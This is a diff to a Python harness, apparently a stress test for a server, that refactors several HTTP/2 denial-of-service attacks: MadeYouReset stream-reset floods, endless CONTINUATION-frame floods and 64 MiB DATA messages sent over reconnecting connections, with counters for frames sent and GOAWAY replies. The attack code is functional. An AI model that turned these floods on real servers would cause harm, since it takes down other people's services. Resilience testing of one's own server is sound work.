@@ -233,34 +233,27 @@ async def attack_nonreading(port: int, stop: float, tally: Tally) -> None:
     await asyncio.gather(*(hoarder(port, stop, tally) for _ in range(500)))
 
 
-async def flood(port: int, stop: float, tally: Tally, make: Any) -> None:
-    """Send what ``make(encoder, sid)`` builds on new streams as fast as the socket takes it; reconnect on close."""
+async def reconnecting(port: int, stop: float, tally: Tally, attack: Any) -> None:
+    """Run ``attack(reader, writer)`` on a new connection, again after each one the server closes, until ``stop``."""
     while time.monotonic() < stop:
         c = await connect(port, tally)
         if c is None:
             await asyncio.sleep(0.1)
             continue
         reader, writer = c
-        encoder = hpack.Encoder()
-        sid = 1
-        try:
-            while time.monotonic() < stop and not reader.at_eof():
-                burst = b"".join(make(encoder, sid + 2 * i) for i in range(50))
-                sid += 100
-                writer.write(burst)
-                tally.bytes_sent += len(burst)
-                tally.frames_sent += 50
-                await writer.drain()
-                try:
-                    data = await asyncio.wait_for(reader.read(1 << 16), 0.001)
-                    tally.goaway(data)
-                    if not data:
-                        break
-                except TimeoutError:
-                    pass
-        except OSError:
-            pass
+        with contextlib.suppress(OSError, TimeoutError):
+            await attack(reader, writer)
         writer.close()
+
+
+async def glance(reader: asyncio.StreamReader, tally: Tally) -> bytes | None:
+    """What the server sent meanwhile, without waiting for it (None: nothing yet)."""
+    try:
+        data = await asyncio.wait_for(reader.read(1 << 16), 0.001)
+    except TimeoutError:
+        return None
+    tally.goaway(data)
+    return data
 
 
 def made_you_reset(encoder: hpack.Encoder, sid: int) -> bytes:
@@ -268,73 +261,66 @@ def made_you_reset(encoder: hpack.Encoder, sid: int) -> bytes:
 
 
 async def attack_madeyoureset(port: int, stop: float, tally: Tally) -> None:
-    await asyncio.gather(*(flood(port, stop, tally, made_you_reset) for _ in range(4)))
+    async def resets(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        encoder = hpack.Encoder()
+        sid = 1
+        while time.monotonic() < stop and not reader.at_eof():
+            burst = b"".join(made_you_reset(encoder, sid + 2 * i) for i in range(50))
+            sid += 100
+            writer.write(burst)
+            tally.bytes_sent += len(burst)
+            tally.frames_sent += 50
+            await writer.drain()
+            if await glance(reader, tally) == b"":
+                return
+
+    await asyncio.gather(*(reconnecting(port, stop, tally, resets) for _ in range(4)))
 
 
 async def attack_continuation(port: int, stop: float, tally: Tally) -> None:
-    async def one() -> None:
-        while time.monotonic() < stop:
-            c = await connect(port, tally)
-            if c is None:
-                await asyncio.sleep(0.1)
-                continue
-            reader, writer = c
-            writer.write(headers_frame(hpack.Encoder(), 1, flags=0))
-            junk = wire.frame(FrameType.CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000)
-            try:
-                while time.monotonic() < stop and not reader.at_eof():
-                    writer.write(junk)
-                    tally.bytes_sent += len(junk)
-                    tally.frames_sent += 1
-                    await writer.drain()
-                    with contextlib.suppress(TimeoutError):
-                        tally.goaway(await asyncio.wait_for(reader.read(1 << 16), 0.001))
-            except OSError:
-                pass
-            writer.close()
+    junk = wire.frame(FrameType.CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000)
 
-    await asyncio.gather(*(one() for _ in range(4)))
+    async def continuations(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(headers_frame(hpack.Encoder(), 1, flags=0))
+        while time.monotonic() < stop and not reader.at_eof():
+            writer.write(junk)
+            tally.bytes_sent += len(junk)
+            tally.frames_sent += 1
+            await writer.drain()
+            await glance(reader, tally)
+
+    await asyncio.gather(*(reconnecting(port, stop, tally, continuations) for _ in range(4)))
 
 
 async def attack_huge(port: int, stop: float, tally: Tally) -> None:
     size = 64 << 20
     piece = b"\x55" * 16_384
 
-    async def one() -> None:
-        while time.monotonic() < stop:
-            c = await connect(port, tally)
-            if c is None:
-                await asyncio.sleep(0.1)
-                continue
-            reader, writer = c
-            encoder = hpack.Encoder()
-            sid = 1
-            window = wire.DEFAULT_WINDOW  # the attacker honours windows: it wants its bytes read
-            try:
-                while time.monotonic() < stop and not reader.at_eof():
-                    writer.write(headers_frame(encoder, sid))
-                    sent = 0
-                    first = True
-                    while sent < size + 5 and time.monotonic() < stop:
-                        payload = struct.pack(">BL", 0, size) + piece[:-5] if first else piece
-                        first = False
-                        while window < len(payload) and time.monotonic() < stop:
-                            data = await asyncio.wait_for(reader.read(1 << 16), 2)
-                            if not data:
-                                raise OSError
-                            tally.goaway(data)
-                            window += _window_updates(data)
-                        writer.write(wire.frame(FrameType.DATA, 0, sid, payload))
-                        window -= len(payload)
-                        sent += len(payload)
-                        tally.bytes_sent += len(payload)
-                        await writer.drain()
-                    sid += 2
-            except (OSError, TimeoutError):
-                pass
-            writer.close()
+    async def huge_messages(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        encoder = hpack.Encoder()
+        sid = 1
+        window = wire.DEFAULT_WINDOW  # the attacker honours windows: it wants its bytes read
+        while time.monotonic() < stop and not reader.at_eof():
+            writer.write(headers_frame(encoder, sid))
+            sent = 0
+            first = True
+            while sent < size + 5 and time.monotonic() < stop:
+                payload = struct.pack(">BL", 0, size) + piece[:-5] if first else piece
+                first = False
+                while window < len(payload) and time.monotonic() < stop:
+                    data = await asyncio.wait_for(reader.read(1 << 16), 2)
+                    if not data:
+                        return
+                    tally.goaway(data)
+                    window += _window_updates(data)
+                writer.write(wire.frame(FrameType.DATA, 0, sid, payload))
+                window -= len(payload)
+                sent += len(payload)
+                tally.bytes_sent += len(payload)
+                await writer.drain()
+            sid += 2
 
-    await asyncio.gather(*(one() for _ in range(4)))
+    await asyncio.gather(*(reconnecting(port, stop, tally, huge_messages) for _ in range(4)))
 
 
 def _window_updates(data: bytes) -> int:
